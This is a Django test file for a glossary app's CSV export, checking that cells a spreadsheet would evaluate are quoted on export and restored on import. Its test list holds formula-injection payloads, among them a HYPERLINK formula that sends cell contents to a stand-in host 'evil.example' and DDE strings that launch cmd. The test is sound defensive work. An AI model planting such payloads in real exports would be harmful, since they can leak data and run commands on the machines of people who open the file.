"""CSV exports neutralise spreadsheet formulae, and import back unchanged."""

import csv
import io

import pytest
from django.test import TestCase

from glossary.import_export import TermResource, neutralise_formula, restore_formula
from glossary.models import Term

from .admin_helpers import logged_in, make_term, make_user
from .test_admin_import_export import EXPORT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_is_exported_as_text(cell):
    assert neutralise_formula(cell) == "'" + cell
    assert restore_formula(neutralise_formula(cell)) == cell


@pytest.mark.parametrize("cell", ["LLM", "'quoted'", "a=b", "", None, 3])
def test_other_cells_are_exported_as_they_are(cell):
    assert neutralise_formula(cell) == cell
    assert restore_formula(cell) == cell


class FormulaExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.editor = make_user("editor")
        make_term(
            "=HYPERLINK(1)",
            aliases=["+cmd x", "ordinary"],
            short_definition="@SUM(A1)",
            status="published",
        )

    def test_the_admin_s_csv_export_quotes_every_formula(self):
        client = logged_in(self.editor)
        fields = {f"termresource_{name}": "on" for name in TermResource._meta.fields}
        response = client.post(EXPORT, {"format": "0", **fields})
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        row = rows[0]
        assert row["label"] == "'=HYPERLINK(1)"
        assert row["short_definition"] == "'@SUM(A1)"
        assert row["aliases"] == "'+cmd x|ordinary"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))

    def test_the_quoted_export_imports_back_unchanged(self):
        dataset = TermResource().export()
        result = TermResource().import_data(dataset, dry_run=True)
        assert not result.has_errors() and not result.has_validation_errors()
        assert result.totals["skip"] == 1
        assert Term.objects.get().label == "=HYPERLINK(1)"
